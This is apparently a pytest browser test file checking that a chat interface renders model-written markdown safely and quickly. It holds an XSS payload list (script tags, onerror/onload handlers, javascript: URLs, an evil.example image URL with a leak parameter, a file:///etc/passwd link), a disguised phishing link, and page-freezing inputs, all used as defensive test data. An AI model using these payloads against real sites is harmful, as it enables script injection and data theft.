"""What models write, drawn in headless Chromium: as it was meant, never as HTML, and never at the cost of the page."""

from typing import Any

import pytest

from donewhen import Agent
from donewhen.testing import ScriptedModel, answer
from tests.kit.screens.browser import DESKTOP, MARKS, PHONE, browser, say, timed
from tests.kit.screens.pages import served

pytestmark = MARKS
MOST = 200
"""Milliseconds that anything may keep the page at work at a time."""
LINE = "Line {} of a long answer with some **bold**, a [link](https://example.org/{}) and `code`."
KILLERS = {
    "a line separator in a heading": "before\n\n# a \u2028 b\n\nafter",
    "backticks": f"x {'`' * 3000} y",
    "backticks of many lengths": " ".join("`" * (at % 60 + 1) for at in range(3000)),
    "deep quotes": f"{'>' * 20_000} x",
    "deep lists": "\n".join(f"{' ' * at}- x" for at in range(300)),
    "brackets": "[" * 60_000,
    "addresses": "http://" * 8_000,
    "60 KB of paragraphs": "\n\n".join(LINE.format(at, at) for at in range(700)),
    "60 KB in one paragraph": "\n".join(LINE.format(at, at) for at in range(700)),
    "60 KB of a table": "| n | text | amount |\n|--:|---|--:|\n"
    + "\n".join(f"| {at} | row **{at}** of it | {at}.50 |" for at in range(1800)),
    "60 KB of code": "```python\n" + "\n".join(f"value_{at} = {at}  # a comment" for at in range(2200)) + "\n```",
    "60 KB of a list": "\n".join(f"- [x] item {at} of `many`" for at in range(2400)),
}


def saying(*texts: str) -> Agent:
    return Agent(ScriptedModel(roles={"triage": [answer(text) for text in texts]}), storage="memory:")


async def shown(tab: Any, text: str) -> Any:
    """Have the text as an answer; the element that it is drawn in, when all of it is."""
    await say(tab, "say it")
    await tab.wait_for_selector(".receipt, .outcome", timeout=60_000)
    await tab.wait_for_selector(".answer .md[data-drawn=whole]", state="attached")
    return tab.locator(".answer .md")


@pytest.mark.parametrize("text", KILLERS.values(), ids=KILLERS)
async def test_no_text_holds_the_page_up(text: str) -> None:
    """N37: streamed in pieces of eight characters, and drawn again when the page is loaded anew."""
    async with served(saying(text)) as page, browser(page) as tab:
        async with timed(tab) as tasks:
            await shown(tab, text)
            whole = await tab.inner_text(".answer .md")
            await tab.reload()
            await tab.wait_for_selector(".answer .md[data-drawn=whole]", state="attached")
        assert await tab.inner_text(".answer .md") == whole
        assert max(tasks, default=0) <= MOST, tasks


ZOO = """# Zoo

**bold** __bold__ *slanted* _slanted_ ~~struck~~ `code` snake_case_word 2*3*4 https://example.org/x_y?a=1&b=2
a second line

| Region | Product | Total |
|:--|:-:|--:|
| West | Anvil \\| heavy | 4,200.75 |
| South | `a \\| b` | 26 |

- [ ] open
- [x] done
   1. inner

> a quote
> - in it

```python
def f(): return "x"
```

![A picture](https://example.org/pic.png) ![dot](data:image/png;base64,iVBORw0KGgo=) [^1]

[named][1] [bank.example](https://evil.example/phish) &amp; \\*plain\\* <b>html</b>

[1]: https://example.org/named
"""


async def test_answers_look_as_they_were_meant() -> None:
    """N37: emphasis, tables with escaped bars, task lists, code with colours, references; no picture is fetched."""
    async with served(saying(ZOO)) as page, browser(page) as tab:
        drawn = await shown(tab, ZOO)

        async def texts(selector: str) -> list[str]:
            return [str(text).strip() for text in await drawn.locator(selector).all_inner_texts()]

        assert await texts("strong") == ["bold", "bold"]
        assert await texts("em") == ["slanted", "slanted"]
        assert await texts("s") == ["struck"]
        assert await texts("td") == ["West", "Anvil | heavy", "4,200.75", "South", "a | b", "26"]
        assert await drawn.locator("td.right").count() == 2
        assert await texts(".task") == ["☐", "☑"]
        assert await texts("li li") == ["inner"]
        assert await texts("blockquote li") == ["in it"]
        assert await texts(".hljs-keyword") == ["def", "return"]
        assert await texts("a.picture") == ["▣ A picture (example.org)"]
        assert await drawn.locator("img").count() == 1
        assert await drawn.locator("a:text('named')").get_attribute("href") == "https://example.org/named"
        assert "bank.example (evil.example)" in await drawn.inner_text()
        assert "& *plain* <b>html</b>" in await drawn.inner_text()
        assert "snake_case_word 2*3*4" in await drawn.inner_text()
        await drawn.locator(".code").hover()
        await drawn.locator(".copy").click()
        assert await tab.evaluate("navigator.clipboard.readText()") == 'def f(): return "x"'


async def test_scripts_from_the_right_are_read_from_there() -> None:
    """N37, N76: each block as its text goes; code never turns."""
    text = "مرحبا بالعالم 123 English.\n\n- عنصر أول\n\nEnglish first.\n\n```\ncode\n```"
    async with served(saying(text)) as page, browser(page) as tab:
        drawn = await shown(tab, text)
        turned = "each => each.map((node) => getComputedStyle(node).direction)"
        assert await drawn.locator("p, ul, pre").evaluate_all(turned) == ["rtl", "rtl", "ltr", "ltr"]


ATTACKS = """<img src=x onerror='window.pwned=1'><script>window.pwned=1</script>

[a](javascript:window.pwned=1) [b](JaVaScRiPt:window.pwned=1) [c](java&#x0A;script:window.pwned=1) [d](vbscript:x)
[e](data:text/html,<script>window.pwned=1</script>) [f](file:///etc/passwd) <javascript:window.pwned=1>
[g](<javascript:window.pwned=1>) ![h](javascript:window.pwned=1) ![i](data:image/svg+xml,<svg/onload=window.pwned=1>)
![j](https://evil.example/x.png?leak=secret "t\\" onerror=\\"window.pwned=1") [k](https://x.example/"onmouseover="window.pwned=1)
[l][r] <svg onload=window.pwned=1> <a href="javascript:window.pwned=1">m</a> <style>*{display:none}</style>

[r]: javascript:window.pwned=1

```"><img src=x onerror=window.pwned=1>
</code></pre><img src=x onerror=window.pwned=1>
```

```html
<script>window.pwned=1</script>
```

| <img src=x onerror=window.pwned=1> |
|---|
| `<img src=x onerror=window.pwned=1>` |

- [x] <img src=x onerror=window.pwned=1>
"""


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
async def test_no_text_becomes_html(size: dict[str, int]) -> None:
    """N37: no element, address or handler that a model writes runs or loads anything."""
    async with served(saying(ATTACKS)) as page, browser(page, size=size) as tab:
        drawn = await shown(tab, ATTACKS)
        assert await tab.evaluate("window.pwned") is None
        assert await drawn.locator("script, img, svg, style, iframe, object, form").count() == 0
        hrefs = await drawn.locator("a").evaluate_all("all => all.map((each) => each.getAttribute('href'))")
        assert {str(each).partition(":")[0] for each in hrefs} <= {"http", "https"}
        names = "all => [...new Set(all.flatMap((each) => each.getAttributeNames()))]"
        given = set(await drawn.locator("*").evaluate_all(names))
        assert given <= {"class", "dir", "href", "title", "target", "rel", "tabindex", "type"}
